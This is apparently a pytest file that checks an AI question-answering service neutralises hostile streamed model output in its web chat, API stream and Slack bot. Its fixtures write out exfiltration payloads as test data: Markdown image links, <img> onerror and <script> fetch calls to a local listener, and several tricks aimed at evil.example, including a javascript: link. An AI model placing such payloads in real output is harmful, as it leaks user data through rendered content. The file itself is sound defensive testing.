"""Nothing a model writes renders before it is judged, on any surface.

A local OpenAI-compatible server streams, token by token, a reply that carries Markdown images,
``<img>``, ``<script>`` and links pointing at a local listener, around one honest sentence. Asked
through the web chat in headless Chromium, through ``/v1`` streaming and through Slack: the
listener gets no request, the page never holds an ``<img>`` or ``<script>`` from the reply, and no
stream delta or Slack update carries ``![``, ``<img``, ``<script`` or the listener's address.
"""

from __future__ import annotations

import json
import threading
import time
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from fake_llm import FakeLLM, Reply, is_answer_request
from fake_slack import FakeSlack
from servers import browser_page, landscape_serve, uvicorn_thread
from test_slack import Harness, make_bot

from agent.pipeline import Agent
from index.corpus import Corpus
from ui.slack.answerer import LocalAnswerer
from ui.slack.bot import http_app

LUMA = "Luma AI 9月的访问量是多少？"
GOOD = "据SimilarWeb统计，Luma AI网站在9月的总访问量仅为1181万次[1]。"
FORBIDDEN = ("![", "<img", "<script", "<iframe")


class Listener:
    """An HTTP server on 127.0.0.1 that counts every request: where exfiltration would land."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802
                listener.requests.append(self.path)
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_reply(listener: str) -> str:
    return (
        f"根据资料，![status]({listener}/md-image?q=secret) 这是状态图。{GOOD}"
        f"<img src=\"{listener}/html-image?q=secret\" onerror=\"fetch('{listener}/onerror')\">"
        f"<script>fetch('{listener}/script')</script>更多内容见"
        f"[官方报告]({listener}/link?q=secret)。详见 {listener}/bare-url?q=secret 的数据。"
        f"![second]({listener}/md-image-2)。Luma AI网站9月环比下跌38.49%[1]。"
    )


@pytest.fixture
def hostile_llm() -> Iterator[tuple[FakeLLM, Listener]]:
    listener = Listener()
    with FakeLLM() as fake:
        fake.router = lambda body: Reply(hostile_reply(listener.url), token_delay=0.02,
                                         token_chars=3) if is_answer_request(body) \
            else Reply("")
        yield fake, listener
    listener.close()


def assert_inert(text: str, listener: Listener) -> None:
    for marker in (*FORBIDDEN, listener.url, "127.0.0.1:"):
        assert marker not in text, (marker, text)


WATCH_DOM = """
window.__seen = [];
new MutationObserver((records) => {
  for (const record of records) {
    for (const node of record.addedNodes) {
      if (!(node instanceof Element)) continue;
      const found = [node, ...node.querySelectorAll('img, script, iframe, a[href]')];
      for (const el of found) {
        const src = el.getAttribute('src') || el.getAttribute('href') || '';
        if (el.closest('#chat') && (['IMG', 'SCRIPT', 'IFRAME'].includes(el.tagName)
            || src.includes('127.0.0.1:' + window.__listenerPort))) {
          window.__seen.push(el.tagName + ' ' + src);
        }
      }
    }
  }
}).observe(document, {subtree: true, childList: true});
"""


def test_browser_renders_nothing_active_from_a_hostile_stream(hostile_llm, tmp_path: Path) -> None:
    fake, listener = hostile_llm
    port = listener.url.rsplit(":", 1)[1]
    data_dir = tmp_path / "data"
    with landscape_serve(data_dir, tmp_path / "serve.log", LANDSCAPE_LLM="openai",
                         LANDSCAPE_OPENAI_BASE_URL=fake.base_url,
                         LANDSCAPE_OPENAI_MODEL="obedient") as url, browser_page(url + "/") as page:
        page.evaluate(f"window.__listenerPort = '{port}';" + WATCH_DOM)
        fetched: list[str] = []
        page.on("request", lambda request: fetched.append(request.url)
                if f"127.0.0.1:{port}" in request.url else None)
        page.fill("#question textarea", LUMA)
        page.click("#send")
        page.locator("#chat").get_by_text("1181万次").first.wait_for(timeout=60_000)
        page.wait_for_timeout(2000)  # the stream ends, the verified answer replaces it
        chat_html = page.locator("#chat").inner_html()
        seen = page.evaluate("window.__seen")
        page.screenshot(path=str(tmp_path / "hostile.png"), full_page=True)
    assert any(is_answer_request(r) for r in fake.requests)  # the hostile reply was streamed
    assert listener.requests == [] and fetched == []
    assert seen == [], seen
    assert "<img" not in chat_html and "<script" not in chat_html
    assert listener.url not in chat_html


def test_api_stream_and_slack_updates_carry_nothing_active(hostile_llm, seeded: Corpus,
                                                           make_settings, tmp_path: Path) -> None:
    from ui.feedback import FeedbackStore
    from ui.server import create_app
    from ui.services import Services

    fake, listener = hostile_llm
    settings = make_settings(data_dir=seeded.settings.data_dir, llm="openai",
                             openai_base_url=fake.base_url, openai_model="obedient")
    agent = Agent(seeded, backend="openai", settings=settings)

    services = Services(settings, seeded, agent, FeedbackStore(tmp_path / "feedback.sqlite"))
    with uvicorn_thread(create_app(services)) as url:
        request = urllib.request.Request(
            url + "/v1/chat/completions", headers={"Content-Type": "application/json"},
            data=json.dumps({"model": "landscape", "stream": True,
                             "messages": [{"role": "user", "content": LUMA}]}).encode())
        deltas, final = [], {}
        with urllib.request.urlopen(request, timeout=60) as response:
            for raw in response:
                line = raw.decode().strip()
                if not line.startswith("data: {"):
                    continue
                chunk = json.loads(line[6:])
                deltas.append(chunk["choices"][0]["delta"].get("content") or "")
                final = chunk if "answer" in chunk else final
    assert len([d for d in deltas if d.strip()]) >= 2, deltas  # in pieces, not at the end
    for delta in deltas:
        assert_inert(delta, listener)
    assert "1181万次" in "".join(deltas) and "1181万次" in final["answer"]
    assert_inert(final["answer"], listener)

    with FakeSlack() as slack_api:
        bot = make_bot(slack_api, LocalAnswerer(agent), tmp_path, update_every=0.0)
        with uvicorn_thread(http_app(bot)) as url:
            reply = Harness(slack_api, url, bot).mention(LUMA)
            time.sleep(0.2)
        updates = slack_api.calls_to("chat.update") + slack_api.calls_to("chat.postMessage")
    assert len(updates) >= 3  # placeholder, streamed updates, the final answer
    for payload in updates:
        assert_inert(json.dumps(payload, ensure_ascii=False), listener)
    assert "1181万次" in json.dumps(reply["blocks"], ensure_ascii=False)
    assert listener.requests == []


TRICKS = [
    "Intro.\n![a\nb](//evil.example/p.png?d=SECRET) more. Good [1].",  # link text over lines
    "Intro. ![x][1] ok.\n\n[1]: //evil.example/p.png\nGood [1].",  # by reference
    "Intro. ![" + "a" * 2500 + "](//evil.example/p.png) after. Good [1].",  # past the hold
    "See //evil.example/x?q=1 now. Good [1].",  # protocol-relative
    "Go <a href='https://evil.example/'>here</a> now. Good [1].",
    "Good [1]. [click](javascript:fetch('//evil.example'))",
]


@pytest.mark.parametrize("text", TRICKS, ids=range(len(TRICKS)))
@pytest.mark.parametrize("size", [1, 2, 5, 40])
def test_inert_stream_releases_no_active_content_however_tokens_fall(text: str,
                                                                     size: int) -> None:
    from agent.safety import InertStream

    stream = InertStream(lambda: "")
    shown = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)]
    shown.append(stream.finish())
    released = "".join(shown)
    assert "evil" not in released and "![" not in released and "<a" not in released
    assert "Good [1]." in released
